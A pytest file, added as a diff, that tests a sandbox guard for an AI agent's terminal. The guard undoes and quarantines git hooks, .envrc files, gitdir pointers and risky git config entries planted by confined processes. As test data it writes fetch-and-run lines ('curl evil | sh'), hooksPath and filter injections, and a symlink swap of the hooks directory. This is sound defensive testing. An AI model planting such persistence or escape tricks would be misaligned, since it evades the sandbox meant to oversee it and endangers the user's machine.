@@ -1,0 +1,165 @@
+"""The run-later guard (terminal/sandbox/guard.py) on real directories and real git: what it puts back, what
+it quarantines, what it leaves alone (the user's own changes between confined work, git's own files of a new
+repository), and that it never follows a link the confined side planted. The git config filter (gitconf.py)."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+
+import pytest
+
+from hermes_agent.terminal.sandbox.gitconf import credential_free, filter_config, fresh_repo_keep
+from hermes_agent.terminal.sandbox.guard import Guard
+
+
+def _git(cwd, *args):
+    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)
+
+
+@pytest.fixture
+def ws(tmp_path):
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    _git(ws, "init", "-q")
+    (ws / ".git/hooks/pre-push").write_text("#!/bin/sh\necho user's own hook\n")
+    return ws
+
+
+def _guard(tmp_path, ws):
+    return Guard([str(ws)], str(tmp_path / "quarantine"))
+
+
+def test_changes_while_confined_work_runs_are_put_back(tmp_path, ws):
+    g = _guard(tmp_path, ws)
+    assert g.enter() == []
+    (ws / ".git/hooks/pre-push").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (ws / ".git/hooks/post-merge").write_text("#!/bin/sh\nid\n")
+    (ws / ".git/info/exclude").unlink()
+    notes = g.leave()
+    assert (ws / ".git/hooks/pre-push").read_text() == "#!/bin/sh\necho user's own hook\n"
+    assert not (ws / ".git/hooks/post-merge").exists() and (ws / ".git/info/exclude").exists()
+    assert len(notes) == 3 and all(n.startswith("[the sandbox ") for n in notes)
+    saved = [p for p in (tmp_path / "quarantine").rglob("*") if p.is_file()]
+    assert sorted(p.name for p in saved) == ["post-merge", "pre-push"]
+    assert "curl evil" in next(p for p in saved if p.name == "pre-push").read_text()
+
+
+def test_the_users_changes_between_confined_work_are_kept(tmp_path, ws):
+    g = _guard(tmp_path, ws)
+    g.enter()
+    g.leave()
+    _git(ws, "config", "user.name", "Me")  # the user, in their own terminal, between two commands
+    (ws / ".git/hooks/pre-commit").write_text("#!/bin/sh\nmake lint\n")
+    (ws / ".envrc").write_text("layout python\n")
+    assert g.enter() == [] and g.leave() == []
+    assert "Me" in (ws / ".git/config").read_text() and (ws / ".git/hooks/pre-commit").exists()
+    assert (ws / ".envrc").exists()
+
+
+def test_changes_during_a_long_running_confined_process_are_caught_at_the_next_command(tmp_path, ws):
+    g = _guard(tmp_path, ws)
+    g.enter(deliver=False)  # a background process or an MCP server
+    (ws / ".envrc").write_text("curl evil | sh\n")
+    notes = g.enter()  # the next foreground command
+    assert not (ws / ".envrc").exists() and any(".envrc" in n for n in notes)
+    g.leave()
+    g.leave(hold=True)
+
+
+def test_a_swapped_hooks_directory_is_never_followed(tmp_path, ws):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "keep.txt").write_text("precious\n")
+    g = _guard(tmp_path, ws)
+    g.enter()
+    os.rename(ws / ".git/hooks", ws / "old-hooks")
+    os.symlink(outside, ws / ".git/hooks")
+    notes = g.leave()
+    assert (outside / "keep.txt").read_text() == "precious\n" and sorted(os.listdir(outside)) == ["keep.txt"]
+    assert (ws / ".git/hooks").is_dir() and not (ws / ".git/hooks").is_symlink()
+    assert (ws / ".git/hooks/pre-push").read_text() == "#!/bin/sh\necho user's own hook\n"
+    assert any("hooks" in n for n in notes)
+
+
+def test_a_new_gitdir_file_pointing_at_another_repository_is_removed(tmp_path, ws):
+    other = tmp_path / "other"
+    other.mkdir()
+    _git(other, "init", "-q")
+    (other / ".git/hooks/pre-commit").write_text("#!/bin/sh\necho the other repo's own hook\n")
+    g = _guard(tmp_path, ws)
+    g.enter()
+    (ws / "lib").mkdir()
+    (ws / "lib/.git").write_text(f"gitdir: {other}/.git\n")
+    notes = g.leave()
+    assert not (ws / "lib/.git").exists() and any("lib/.git" in n for n in notes)
+    assert (other / ".git/hooks/pre-commit").exists()  # never touched: not the sandbox's to change
+
+
+def test_a_new_repository_keeps_gits_own_files(tmp_path, ws):
+    g = _guard(tmp_path, ws)
+    g.enter()
+    _git(ws, "init", "-q", "a/b/new")
+    new = ws / "a/b/new/.git"
+    (new / "hooks/pre-commit").write_text("#!/bin/sh\nid\n")
+    with open(new / "config", "a") as fh:
+        fh.write('[core]\n\thooksPath = /tmp\n[remote "origin"]\n\turl = https://example.com/x.git\n'
+                 '[filter "lfs"]\n\tclean = sh -c id\n')
+    notes = g.leave()
+    config = (new / "config").read_text()
+    assert "hooksPath" not in config and "filter" not in config and "url = https://example.com/x.git" in config
+    assert not (new / "hooks/pre-commit").exists() and (new / "hooks/pre-commit.sample").exists()
+    assert len(notes) == 2
+    _git(ws / "a/b/new", "status")  # still a working repository
+
+
+def test_filter_keeps_lines_verbatim_and_drops_whole_entries():
+    text = ('[core]\n\tbare = false\n\tfsmonitor = "x \\\n  y"\n[user] name = "A \\"B\\"" ; c\n'
+            '[remote.origin]\n\turl = u\n[alias]\n\tx = !sh\n# comment\n')
+    kept, dropped = filter_config(text, fresh_repo_keep)
+    assert kept == '[core]\n\tbare = false\n[user]\n\tname = "A \\"B\\"" ; c\n[remote.origin]\n\turl = u\n'
+    assert dropped == ["core.fsmonitor", "alias.x"]
+
+
+def test_credential_free_drops_what_carries_or_reaches_credentials():
+    text = ('[url "https://tok@github.com/"]\n\tinsteadOf = https://github.com/\n'
+            '[url "https://github.com/"]\n\tinsteadOf = git@github.com:\n'
+            '[url "ssh://git@github.com/"]\n\tpushInsteadOf = https://github.com/\n'
+            '[http "https://x/"]\n\textraHeader = A: b\n[http]\n\tsslVerify = true\n'
+            '[credential]\n\thelper = store\n[includeIf "gitdir:~/w/"]\n\tpath = ~/.w\n[user]\n\tname = U\n')
+    kept, dropped = filter_config(text, credential_free)
+    assert "tok@" not in kept and "extraHeader" not in kept and "helper" not in kept and "~/.w" not in kept
+    assert 'insteadOf = git@github.com:' in kept and "sslVerify" in kept and "name = U" in kept
+    assert 'ssh://git@github.com/' not in kept  # a user in the URL (no password) is dropped too: userinfo
+
+
+def test_what_the_sandbox_cannot_write_is_never_put_back(tmp_path):
+    """A workspace that is a worktree of a repository elsewhere: the main repository is outside the
+    sandbox's writable roots, so a change there (another program's, never the sandbox's) is left alone."""
+    main = tmp_path / "main"
+    main.mkdir()
+    _git(main, "init", "-q")
+    subprocess.run(["git", "-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "x"],
+                   cwd=main, check=True)
+    _git(main, "worktree", "add", "-q", str(tmp_path / "ws"))
+    ws = tmp_path / "ws"
+    g = Guard([str(ws)], str(tmp_path / "quarantine"), roots=[str(ws)])
+    g.enter(deliver=False)  # a long-running confined process
+    (main / ".git/hooks/pre-commit").write_text("#!/bin/sh\necho the user's new hook\n")
+    _git(main, "config", "user.name", "Me")
+    (ws / ".envrc").write_text("curl evil | sh\n")
+    notes = g.leave()
+    assert (main / ".git/hooks/pre-commit").exists() and "Me" in (main / ".git/config").read_text()
+    assert not (ws / ".envrc").exists() and len(notes) == 1, notes
+
+
+def test_a_write_of_hermes_itself_is_not_put_back(tmp_path, ws):
+    """A file tool's write (approved by the gate) while an MCP server or background process runs."""
+    g = _guard(tmp_path, ws)
+    g.enter(deliver=False)
+    (ws / ".envrc").write_text("curl evil | sh\n")  # the confined process
+    with g.trusted():
+        (ws / ".git/hooks/pre-commit").write_text("#!/bin/sh\nmake lint\n")  # hermes, approved
+    notes = g.enter()
+    assert (ws / ".git/hooks/pre-commit").exists() and not (ws / ".envrc").exists()
+    assert len(notes) == 1 and ".envrc" in notes[0]
